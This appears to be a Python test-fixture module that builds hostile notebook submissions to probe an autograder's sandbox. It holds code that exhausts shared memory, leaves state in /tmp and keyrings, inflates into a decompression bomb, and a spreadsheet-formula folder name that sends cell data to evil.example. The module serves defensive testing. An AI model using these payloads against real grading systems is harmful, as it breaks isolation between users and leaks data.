"""Hostile submissions aimed at the seams around the jail (written for tests/engine/sandbox/test_seams.py).

Two kinds:

* what one child could leave for the next in the same judge, or change on the host: a LEAVER holds
  memory outside its limit (System V shared memory, memfd files), leaves IPC objects, a key in its
  user's keyring, files and a 1,500-deep tree (deeper than a recursive delete goes) in /tmp and /dev/shm, and touches the device nodes
  bound into the jail; a LOOKER right after it is the reference solution that breaks its own
  ``sigmoid`` if it finds anything left (so its score says what it saw);
* files whose bytes are hostile to the steps that read them before or after the jail: thousands of
  shell lines, a 5 MB declaration, a set-up code that inflates to 200,000 brackets, a set-up of the
  wrong types, names that are not UTF-8 or start a spreadsheet formula.
"""
from __future__ import annotations

import base64
import json
import zlib

#: Device nodes bubblewrap binds into the jail from the host.
DEVICES = ("/dev/null", "/dev/zero", "/dev/full", "/dev/random", "/dev/urandom", "/dev/tty")
#: What a leaver names what it leaves, so the host can be searched for it afterwards.
MARK = "initlab-left"
#: System V keys a leaver uses (the host's IPC objects are searched for them).
SHM_KEYS = tuple(0x1E17AB00 + i for i in range(3))

LEAVER = r'''
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
HELD = 0  # bytes this process holds outside its address-space limit

for _key in {shm_keys!r}:  # 3 GB of System V shared memory against a 2 GB limit, detached and left
    _id = _libc.shmget(_key, 1 << 30, 0o1666)
    if _id >= 0:
        _addr = _libc.shmat(_id, None, 0)
        if _addr not in (None, ctypes.c_void_p(-1).value):
            ctypes.memset(_addr, 1, 1 << 30)
            _libc.shmdt(ctypes.c_void_p(_addr))
            HELD += 1 << 30
_libc.msgget({shm_key0!r}, 0o1666)
_libc.semget({shm_key0!r}, 4, 0o1666)
_memfds = []
for _ in range(200):  # memfd files written, never mapped: 3.2 GB
    try:
        _fd = os.memfd_create("{mark}")
        os.write(_fd, b"x" * (16 << 20))
        _memfds.append(_fd)
        HELD += 16 << 20
    except OSError:
        break
if __import__("platform").machine() == "x86_64":  # add_key("user", ..., KEY_SPEC_USER_KEYRING)
    _libc.syscall(248, b"user", b"{mark}", b"secret", 6, -4)

for _folder in ("/tmp", "/dev/shm", "/var/tmp"):
    try:
        with open(os.path.join(_folder, "{mark}-file"), "wb") as _fh:
            _fh.write(b"left for the next student")
    except OSError:
        pass
try:  # a tree too deep for a recursive delete, its folders read-only
    os.chdir("/tmp")
    os.mkdir("{mark}-tree")
    os.chdir("{mark}-tree")
    for _ in range(1500):
        os.mkdir("d")
        os.chdir("d")
    os.chdir("/tmp")
    os.chmod("{mark}-tree", 0o500)
except OSError:
    pass

for _dev in {devices!r}:  # the same mode, owner and times: harmless if allowed, but the host's ctime would show it
    try:
        _st = os.stat(_dev)
    except OSError:
        continue
    for _change in (lambda: os.chmod(_dev, _st.st_mode & 0o7777), lambda: os.utime(_dev, (_st.st_atime, _st.st_mtime)),
                    lambda: os.chown(_dev, _st.st_uid, _st.st_gid)):
        try:
            _change()
        except OSError:
            pass


def relu(x):  # right only if nothing was held outside the limit: the test reads this check's verdict
    import numpy as np
    return np.maximum(0, x) if HELD < (2 << 30) else np.zeros_like(x)
'''

LOOKER = r'''
import os
LEFT = []
for _table in ("/proc/sysvipc/shm", "/proc/sysvipc/msg", "/proc/sysvipc/sem"):
    try:
        if open(_table).read().splitlines()[1:]:
            LEFT.append(_table)
    except OSError:
        pass
for _folder in ("/tmp", "/dev/shm"):
    try:
        LEFT += [os.path.join(_folder, n) for n in os.listdir(_folder) if not n.startswith("fontlist-")]
    except OSError:
        pass
try:
    if "{mark}" in open("/proc/keys").read():
        LEFT.append("a key in the keyring")
except OSError:
    pass


def sigmoid(x):  # right only if the child before it left nothing: the test reads this check's verdict
    import numpy as np
    return 1 / (1 + np.exp(-x)) if not LEFT else np.zeros_like(x)
'''


def leaver(reference: str) -> str:
    """The reference solution with the leaver's code after it (its relu replaced)."""
    return reference + LEAVER.format(shm_keys=SHM_KEYS, shm_key0=SHM_KEYS[0], mark=MARK, devices=DEVICES)


def looker(reference: str) -> str:
    """The reference solution with the looker's code after it (its sigmoid replaced)."""
    return reference + LOOKER.format(mark=MARK)


def _code_cell(source: str) -> dict:
    return {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [], "source": source}


def notebook_with(reference: str, *extra_cells: str) -> bytes:
    """The reference solution as one notebook cell, then ``extra_cells``."""
    cells = [_code_cell(reference)] + [_code_cell(c) for c in extra_cells]
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}).encode()


def shell_lines(reference: str) -> bytes:
    """Cells full of ``!`` lines (IPython's transformer took seconds for each), and one made to cost
    a scan per line to the end of the cell (left as it is: a syntax error in that cell only)."""
    lines = "".join(f"!echo line {i} 'of' \"shell\" (stuff) ; ls -la /tmp\n" for i in range(40))
    return notebook_with(reference, *([lines] * 40), "!echo (\n" * 20000)


def huge_declaration(reference: str) -> bytes:
    """A 5 MB ``STUDENT_ID = [...]`` literal: 2.5 GB in a parse of the main process."""
    return notebook_with(reference, "STUDENT_ID = [" + "1," * 2_500_000 + "]\n")


def setup_bomb(reference: str) -> str:
    """A 300-character set-up code that inflates to 200,000 nested brackets."""
    code = "initlab1:" + base64.urlsafe_b64encode(zlib.compress(b"[" * 100_000 + b"]" * 100_000, 9)).decode().rstrip("=")
    return reference + f"\nSETUP_CODE = {code!r}\nSETUP = SETUP_CODE\n"


def setup_of_wrong_types(reference: str) -> str:
    return reference + '\nSETUP = {"week": [1], "lam": "0.1", "init_shapes": [[1e9, "x"]]}\n'


#: A folder name and a file name in CP949 (홍길동), as a Korean Windows zip extracts them on Linux.
CP949_NAME = "홍길동".encode("cp949")
#: A Moodle folder whose student's full name starts a spreadsheet formula.
FORMULA_FOLDER = '=HYPERLINK("https:evil.example?"&A1,"view")_9001_assignsubmission_file_'
